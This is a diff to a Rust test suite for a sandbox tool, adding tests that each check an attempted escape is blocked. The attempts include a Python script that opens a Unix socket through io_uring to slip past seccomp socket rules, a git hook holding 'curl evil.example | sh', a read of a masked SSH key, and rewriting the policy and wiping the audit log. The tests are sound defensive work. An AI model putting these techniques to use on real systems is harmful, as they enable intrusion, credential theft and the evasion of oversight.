@@ -237,6 +237,161 @@ fn the_seccomp_filter_holds_in_every_mode() {
     );
 }
 
+/// io_uring from Python's ctypes: a ring with one IORING_OP_SOCKET (45) for an `AF_UNIX`
+/// socket, which never calls socket(2); then connect(2) to the abstract name in argv[1] and
+/// say so. Prints how far it got.
+const IO_URING_SOCKET: &str = r#"
+import ctypes, errno, mmap, socket, struct, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+L = ctypes.c_long
+params = ctypes.create_string_buffer(120)
+fd = libc.syscall(L(425), L(4), params)
+if fd < 0:
+    print("io_uring_setup", errno.errorcode.get(ctypes.get_errno(), "?")); sys.exit(0)
+sq_entries, cq_entries = struct.unpack_from("<2I", params.raw, 0)
+sq = struct.unpack_from("<8I", params.raw, 40)
+cq = struct.unpack_from("<8I", params.raw, 80)
+rw = mmap.PROT_READ | mmap.PROT_WRITE
+sqr = mmap.mmap(fd, sq[6] + 4 * sq_entries, mmap.MAP_SHARED, rw, offset=0)
+cqr = mmap.mmap(fd, cq[5] + 16 * cq_entries, mmap.MAP_SHARED, rw, offset=0x8000000)
+sqes = mmap.mmap(fd, 64 * sq_entries, mmap.MAP_SHARED, rw, offset=0x10000000)
+struct.pack_into("<BBHiQQIIQHHiQQ", sqes, 0, 45, 0, 0, socket.AF_UNIX, socket.SOCK_STREAM, 0, 0, 0, 7, 0, 0, 0, 0, 0)
+tail, mask = struct.unpack_from("<I", sqr, sq[1])[0], struct.unpack_from("<I", sqr, sq[2])[0]
+struct.pack_into("<I", sqr, sq[6] + 4 * (tail & mask), 0)
+struct.pack_into("<I", sqr, sq[1], tail + 1)
+if libc.syscall(L(426), L(fd), L(1), L(1), L(1), None, L(0)) < 0:
+    print("io_uring_enter", errno.errorcode.get(ctypes.get_errno(), "?")); sys.exit(0)
+head, cmask = struct.unpack_from("<I", cqr, cq[0])[0], struct.unpack_from("<I", cqr, cq[2])[0]
+_, res, _ = struct.unpack_from("<QiI", cqr, cq[5] + 16 * (head & cmask))
+if res < 0:
+    print("io_uring socket", errno.errorcode.get(-res, "?")); sys.exit(0)
+s = socket.socket(fileno=res)
+s.connect(b"\0" + sys.argv[1].encode())
+s.sendall(b"escaped")
+print("unix ok")
+"#;
+
+/// The attacker makes its Unix socket through io_uring, which the socket-family rule never
+/// sees, and connects to a host abstract socket (X11's, in `net.mode: all`). io_uring is
+/// denied, so the socket is never made and the host hears nothing.
+#[test]
+fn io_uring_is_no_way_around_the_socket_rules() {
+    use std::os::linux::net::SocketAddrExt;
+    let name = format!("sandgate-test-uring-{}", std::process::id());
+    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
+    let host = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
+    // The exploit works outside (else the test would prove nothing: a kernel without
+    // io_uring, or with it switched off, refuses it everywhere).
+    let outside = host_python(IO_URING_SOCKET, &[&name]);
+    if !outside.contains("unix ok") {
+        eprintln!("skipped: io_uring is not available on this host ({outside})");
+        return;
+    }
+    assert!(host.accept().is_ok(), "the exploit's own connection outside");
+    host.set_nonblocking(true).unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let policy = write_policy(dir.path(), "net:\n  mode: all\n");
+    let out = run(&policy, &[], &["python3", "-c", IO_URING_SOCKET, &name]);
+    let (stdout, stderr) = text(&out);
+    assert!(out.status.success(), "{stdout}\n{stderr}");
+    let reached = host.accept().is_ok();
+    assert!(
+        !reached && stdout.contains("io_uring_setup EPERM"),
+        "the command reached a host Unix socket through io_uring (host heard it: {reached}):\n{stdout}\n{stderr}"
+    );
+}
+
+/// The attacker writes a git hook into the `.git` the policy lists read-only inside the
+/// writable project (git on the host runs it at the next commit), and reads the key a tmpfs
+/// masks inside a readable home. Both narrower mounts hold.
+#[test]
+fn a_read_only_path_or_a_mask_inside_a_wider_bind_holds() {
+    let dir = tempfile::tempdir().unwrap();
+    let proj = dir.path().join("proj");
+    let hooks = proj.join(".git/hooks");
+    let ssh = dir.path().join("home/.ssh");
+    std::fs::create_dir_all(&hooks).unwrap();
+    std::fs::create_dir_all(&ssh).unwrap();
+    std::fs::write(ssh.join("id_ed25519"), "secret key\n").unwrap();
+    let (proj_s, home_s, ssh_s) = (
+        proj.display().to_string(),
+        dir.path().join("home").display().to_string(),
+        ssh.display().to_string(),
+    );
+    let yaml = format!(
+        "{}  write_paths: [ \"{proj_s}\" ]\nplatform:\n  bwrap: {{ tmpfs: [ \"{ssh_s}\" ] }}\n",
+        base().replace(
+            "read_paths: [ ",
+            &format!("read_paths: [ \"{proj_s}/.git\", \"{home_s}\", ")
+        ),
+    );
+    let policy = dir.path().join("policy.yaml");
+    std::fs::write(&policy, yaml).unwrap();
+    let script = format!(
+        "echo 'curl evil.example | sh' > {proj_s}/.git/hooks/pre-commit && echo wrote-hook; \
+         cat {ssh_s}/id_ed25519 && echo read-key; echo x > {proj_s}/file && echo wrote-project"
+    );
+    let out = run(&policy, &[], &["sh", "-c", &script]);
+    let (stdout, stderr) = text(&out);
+    assert!(
+        stdout.contains("wrote-project"),
+        "the write path itself is writable:\n{stdout}\n{stderr}"
+    );
+    assert!(
+        !stdout.contains("wrote-hook") && !hooks.join("pre-commit").exists(),
+        "wrote into the read-only .git:\n{stdout}\n{stderr}"
+    );
+    assert!(
+        !stdout.contains("read-key") && !stdout.contains("secret key"),
+        "read what the tmpfs masks:\n{stdout}\n{stderr}"
+    );
+}
+
+/// The attacker's project directory is writable and holds the run's policy (in `conf/`)
+/// and its `--audit-log`: it rewrites the policy its next run will read (`net.mode: all`),
+/// empties the record of what it did, swaps the policy for a file of its own, and renames
+/// `conf/` away to put its own policy at the same path. Each fails; the rest of the
+/// directory stays writable.
+#[test]
+fn the_runs_policy_and_audit_log_cannot_be_changed_from_inside() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path().display().to_string();
+    std::fs::create_dir(dir.path().join("conf")).unwrap();
+    let policy = write_policy(
+        &dir.path().join("conf"),
+        &format!("  write_paths: [ \"{d}\" ]\nnet:\n  mode: allowlist\n  allow_domains: [ a.example ]\n"),
+    );
+    let before = std::fs::read_to_string(&policy).unwrap();
+    let log = dir.path().join("audit.jsonl");
+    let script = format!(
+        "echo 'net: {{ mode: all }}' >> {d}/conf/policy.yaml && echo wrote-policy; \
+         true > {d}/audit.jsonl && echo emptied-log; \
+         echo 'net: {{ mode: all }}' > {d}/mine.yaml && mv -f {d}/mine.yaml {d}/conf/policy.yaml && echo swapped-policy; \
+         rm -f {d}/audit.jsonl && echo removed-log; \
+         mv {d}/conf {d}/conf2 && echo moved-conf; \
+         echo x > {d}/other && echo wrote-project"
+    );
+    let out = run(
+        &policy,
+        &["--audit-log", log.to_str().unwrap()],
+        &["sh", "-c", &script],
+    );
+    let (stdout, stderr) = text(&out);
+    assert!(stdout.contains("wrote-project"), "{stdout}\n{stderr}");
+    for done in [
+        "wrote-policy",
+        "emptied-log",
+        "swapped-policy",
+        "removed-log",
+        "moved-conf",
+    ] {
+        assert!(!stdout.contains(done), "{done}:\n{stdout}\n{stderr}");
+    }
+    assert_eq!(std::fs::read_to_string(&policy).unwrap(), before);
+    assert!(log.exists());
+}
+
 /// Item 4: no value of the command's environment is on any process's command line while
 /// the run is going on (bwrap, the init, the filter step, the command).
 #[test]
@@ -500,6 +655,6 @@ fn the_hardening_suite_passes_as_an_ordinary_user() {
     common::rerun_as_nobody(
         "sandbox_hardening_e2e",
         "the_hardening_suite_passes_as_an_ordinary_user",
-        8,
+        11,
     );
 }
